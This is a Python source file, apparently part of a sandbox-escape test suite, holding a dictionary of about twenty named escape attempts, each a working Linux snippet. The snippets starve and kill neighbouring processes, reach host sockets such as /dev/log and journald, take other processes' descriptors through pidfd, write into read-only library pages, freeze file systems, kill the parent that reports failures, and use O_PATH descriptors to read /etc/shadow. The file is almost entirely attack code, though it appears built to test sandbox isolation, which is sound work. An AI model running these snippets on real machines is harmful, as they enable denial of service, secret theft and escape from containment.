"""At others by what is shared without a name: counts and priorities of a user, sockets aimed anew, locks, clocks."""

from __future__ import annotations

from attacks.escapes.escape import TIGHT, Escape

SIDEWAYS = {
    "priorities of a user": Escape(
        "slows down whoever is the same user, or of the same group of processes, and their input and output",
        """
for which, who in ((2, 0), (2, os.getuid()), (1, int(VICTIM)), (1, int(POOL)), (0, int(VICTIM))):
    try: os.setpriority(which, who, 19)
    except OSError: pass
for which, who in ((3, 0), (3, os.getuid()), (2, int(VICTIM)), (1, int(VICTIM))):
    try: call("ioprio_set", which, who, 3 << 13)
    except OSError: pass
""",
    ),
    "pairs aimed anew": Escape(
        "a pair of datagram sockets, one of which then writes to a socket of the host's by its name",
        """
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
    for name in (DATAGRAM, SOCKET, "\\0" + ABSTRACT, "/dev/log", "/run/systemd/notify", "/run/systemd/journal/socket"):
        def one():
            a, b = socket.socketpair(socket.AF_UNIX, kind)
            a.sendto(b"leak", name)
        def other():
            a, b = socket.socketpair(socket.AF_UNIX, kind)
            a.connect(name)
            a.send(b"leak")
        def third():
            a, b = socket.socketpair(socket.AF_UNIX, kind)
            try: libc.connect(a.fileno(), struct.pack("H", 0), 2)
            except OSError: pass
            a.sendmsg([b"leak"], [], 0, name)
        steal(one); steal(other); steal(third)
""",
    ),
    "notes on files": Escape(
        "reads the attributes of files that it cannot open",
        """
for path in (SECRET, HOME_SECRET, os.path.dirname(SECRET)):
    for read_it in (os.listxattr, lambda p: os.getxattr(p, "user.note"), lambda p: os.getxattr(p, "user.note", follow_symlinks=False)):
        steal(read_it, path)
    steal(lambda: os.getxattr(os.open(path, os.O_PATH), "user.note"))
    steal(lambda: call("removexattr", path.encode(), b"user.note"))
""",
    ),
    "watching others": Escape(
        "watches files and folders for what other programs of the machine do with them",
        """
def watch(path, mask):
    return call("inotify_add_watch", call("inotify_init1", 0) if False else libc.inotify_init1(0), path.encode(), mask)
for path in (SECRET, HOME_SECRET, os.path.dirname(SECRET), os.path.dirname(HOME_SECRET), "/home", "/var", "/tmp/.."):
    steal(watch, path, 0xfff)
import fcntl
for path in (os.path.dirname(SECRET), "/var", "/home", "/usr", "/usr/bin", os.path.dirname(os.__file__)):
    steal(lambda: fcntl.fcntl(os.open(path, os.O_PATH | os.O_DIRECTORY), fcntl.F_NOTIFY, 0x1f) == 0)
    steal(lambda: fcntl.fcntl(os.open(path, os.O_RDONLY | os.O_DIRECTORY), fcntl.F_NOTIFY, 0x1f) == 0)
""",
    ),
    "watches of a user": Escape(
        "takes all the watchers that a user may have, so that editors of the same user find none",
        """
hoard = []
for _ in range(400):
    number = libc.inotify_init1(0)
    if number < 0: break
    hoard.append(number)
if len(hoard) > 4: got(len(hoard))
""",
        limits=TIGHT,
    ),
    "requests of the machine": Escape(
        "takes all the asynchronous requests that the whole machine may have open, which its databases need",
        """
import ctypes
total = 0
for _ in range(64):
    context = ctypes.c_ulong(0)
    if libc.syscall(ctypes.c_long(NUMBERS["io_setup"]), ctypes.c_long(4096), ctypes.byref(context)) == 0: total += 4096
if total: got(total)
""",
        limits=TIGHT,
    ),
    "signals by an owner": Escape(
        "makes others the owners of a socket, who are then sent a signal of its choice",
        """
import fcntl
for owner in (int(VICTIM), int(POOL), -int(VICTIM), 1):
    for request in (0x8901, 0x8902):
        a, b = socket.socketpair()
        try:
            fcntl.ioctl(a, request, struct.pack("i", owner))
        except OSError: continue
        try:
            fcntl.fcntl(a, 10, int(signal.SIGKILL)); fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK); b.send(b"x")
        except OSError: pass
    for kind in (0, 1, 2):
        a, b = socket.socketpair()
        try:
            fcntl.fcntl(a, 15, struct.pack("ii", kind, owner)); fcntl.fcntl(a, 10, int(signal.SIGKILL))
            fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC); b.send(b"x")
        except OSError: pass
time.sleep(0.02)
""",
    ),
    "signals by a clock": Escape(
        "a timer whose signal goes to somebody else's thread",
        """
for thread in (1, 2, int(VICTIM), int(POOL), os.getppid()):
    event = struct.pack("Pii", 0, 9, 4) + struct.pack("i", thread) + bytes(64)
    timer = ctypes.c_int(0)
    if libc.syscall(ctypes.c_long(NUMBERS["timer_create"]), ctypes.c_long(1), event, ctypes.byref(timer)) == 0:
        if thread != os.getpid() and thread != 1: got(thread)
""",
    ),
    "handles of others": Escape(
        "takes a handle of another process, and by it the namespaces, descriptors and memory",
        """
import fcntl
for pid in (1, 2, os.getppid(), int(VICTIM), int(POOL)):
    try: handle = os.pidfd_open(pid)
    except OSError: continue
    if pid == os.getpid(): continue
    for request in range(0xff01, 0xff0b):
        number = libc.ioctl(handle, request, 0)
        if number > 2: steal(lambda: call("setns", number, 0))
    steal(lambda: call("setns", handle, 0x20000 | 0x10000000 | 0x40000000))
    steal(lambda: call("process_madvise", handle, struct.pack("PN", 0x400000, 4096), 1, 21, 0))
    steal(lambda: call("process_mrelease", handle, 0))
    steal(lambda: call("pidfd_getfd", handle, 0, 0))
""",
    ),
    "siblings": Escape(
        "children that are its parent's instead of its own, and outlive it there",
        """
for _ in range(4):
    try:
        pid = libc.syscall(ctypes.c_long(NUMBERS["clone"]), ctypes.c_long(0x8000 | 17), 0, 0, 0, 0)
        if pid == 0:
            for number in range(0, 64):
                try: os.write(number, b"R") if number > 4 else None
                except OSError: pass
            time.sleep(60); os._exit(0)
    except OSError: pass
for signal_at_end in (0, 9, 19, 64):
    pid = libc.syscall(ctypes.c_long(NUMBERS["clone"]), ctypes.c_long(0x8000 | signal_at_end), 0, 0, 0, 0)
    if pid == 0: os._exit(0)
time.sleep(0.05)
os._exit(0)
""",
        limits=TIGHT,
    ),
    "files without a name": Escape(
        "fills the disk with files that it removes while they are open, or that never had a name",
        """
if os.getcwd() != "/box": sys.exit()  # without namespaces nobody sees them; the doctor says so
hoard = []
def fill(make):
    for n in range(40):
        f = make(n); hoard.append(f)
        for _ in range(4): os.write(f, bytes(1 << 20))
        time.sleep(0.01)
    return "160 MiB"
def removed(n):
    f = os.open(f"r{n}", os.O_CREAT | os.O_RDWR); os.unlink(f"r{n}"); return f
steal(fill, removed)
steal(fill, lambda n: os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600))
""",
        limits=TIGHT,
    ),
    "files in flight": Escape(
        "the same, with the files' only holders on their way through a socket, or in memory",
        """
if os.getcwd() != "/box": sys.exit()
import mmap
a, b = socket.socketpair()
hoard = []
def fill(keep):
    for n in range(40):
        f = os.open(f"r{n}", os.O_CREAT | os.O_RDWR); os.unlink(f"r{n}")
        for _ in range(4): os.write(f, bytes(1 << 20))
        keep(f); os.close(f)
        time.sleep(0.01)
    return "160 MiB"
a.setblocking(False)
steal(fill, lambda f: socket.send_fds(a, [b"x"], [f]))
steal(fill, lambda f: hoard.append(mmap.mmap(f, 4 << 20)))
""",
        limits=TIGHT,
    ),
    "pages of the toolchain": Escape(
        "writes into pages of read-only files by mapping, splicing and sending",
        """
import mmap
path = os.__file__
before = read(path, 64)
source = os.open(path, os.O_RDONLY)
m = mmap.mmap(source, 4096, prot=mmap.PROT_READ)
libc.mmap.restype = ctypes.c_void_p
address = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, source, ctypes.c_long(0))
if libc.mprotect(ctypes.c_void_p(address), ctypes.c_size_t(4096), 3) == 0: got("a writable mapping")
for advice in (9, 23, 100, 101): libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), advice)
r, w = os.pipe()
os.write(w, b"x" * 4096); os.read(r, 4096)
steal(lambda: os.splice(source, w, 1, offset_src=0) and os.write(w, b"OWNED") and False)
steal(lambda: os.splice(r, source, 4)); steal(lambda: os.sendfile(source, source, 0, 4)); steal(lambda: os.copy_file_range(source, source, 4, 0, 100))
if read(path, 64) != before: got("another library")
""",
    ),
    "whole file systems": Escape(
        "freezes, trims, names and shuts down the file systems under its files",
        """
import fcntl
for path in ("/", "/usr", os.__file__, ".", "/dev/null"):
    for request in (0xC0045877, 0xC0045878, 0xC0185879, 0x8004587D, 0x41009432, 0x40086610, 0x4004667F, 0x40049409, 0xC0189436, 0x800C6613):
        def ask():
            return fcntl.ioctl(os.open(path, os.O_RDONLY), request, bytes(32)) is not None
        steal(ask)
""",
    ),
    "maps without end": Escape(
        "so many mappings in so many processes that whoever looks at them comes late",
        """
import mmap
for _ in range(10):
    try:
        if os.fork() == 0: break
    except OSError: break
hoard = []
try:
    for n in range(30000):
        hoard.append(mmap.mmap(-1, 4096, flags=mmap.MAP_SHARED if n % 2 else mmap.MAP_PRIVATE | 0x20))
except (OSError, ValueError, MemoryError): pass
m = mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)
time.sleep(600)
""",
        limits=TIGHT,
    ),
    "a deadline": Escape(
        "a class of scheduling before which all others stand back",
        """
for policy, arguments in ((6, (10**7, 10**7, 10**7)), (1, (0, 0, 0)), (2, (0, 0, 0)), (7, (0, 0, 0))):
    attributes = struct.pack("IIQiIQQQ", 48, policy, 0, 0, 50 if policy < 6 else 0, *arguments)
    steal(lambda: call("sched_setattr", 0, attributes, 0))
    steal(lambda: call("sched_setattr", int(VICTIM), struct.pack("IIQiIQQQ", 48, 5, 0, 0, 0, 0, 0, 0), 0))
""",
    ),
    "ends of the first process": Escape(
        "stops and kills who reports on it just before it fails, so that nobody says so",
        """
parent = os.getppid()
if parent > 1 or os.getpid() != 1:
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
        try: os.kill(parent, number)
        except OSError: pass
os._exit(3)
""",
        limits=TIGHT,
    ),
    "words of its own record": Escape(
        "writes its accounting: login, clock offsets, dumps, faults, what the kernel prints of it",
        """
for name, data in (("loginuid", b"0"), ("sessionid", b"1"), ("timerslack_ns", b"1"), ("latency", b"x"), ("fail-nth", b"1"),
                   ("task/self/make-it-fail", b"1"), ("attr/keycreate", b"x"), ("attr/sockcreate", b"x"), ("attr/apparmor/current", b"x"),
                   ("arch_status", b"x"), ("ksm_stat", b"x"), ("patch_state", b"1"), ("stack", b"x"), ("seccomp_cache", b"x")):
    for pid in ("self", "1", VICTIM, POOL):
        if pid != "self" or name not in ("timerslack_ns",): steal(write, f"/proc/{pid}/{name}", data)
steal(read, "/proc/self/stack"); steal(read, "/proc/1/stack"); steal(read, "/proc/self/seccomp_cache")
""",
    ),
    "roots in links": Escape(
        "descriptors that name without opening, by which it opens, links and runs what it may not",
        """
for path in (SECRET, HOME_SECRET, "/etc/shadow", "/var"):
    try: named = os.open(path, os.O_PATH)
    except OSError: continue
    steal(os.read, named, 10)
    steal(lambda: os.read(os.open(f"/proc/self/fd/{named}", os.O_RDONLY), 10))
    steal(lambda: os.link(f"/proc/self/fd/{named}", "taken", follow_symlinks=True) is None)
    steal(lambda: call("linkat", named, b"", -100, b"taken", 0x1000))
    steal(lambda: os.listdir(named)); steal(lambda: os.open("secret", os.O_RDONLY, dir_fd=named))
    steal(lambda: call("execveat", named, b"", struct.pack("P", 0), struct.pack("P", 0), 0x1000))
    steal(lambda: call("fchmodat2", named, b"", 0o777, 0x1000)); steal(lambda: call("utimensat", named, b"", 0, 0x1000))
    steal(lambda: os.sendfile(1, named, 0, 10)); steal(lambda: os.truncate(f"/proc/self/fd/{named}", 0) is None)
    import mmap
    steal(lambda: mmap.mmap(named, 10, prot=mmap.PROT_READ)[:])
""",
    ),
}
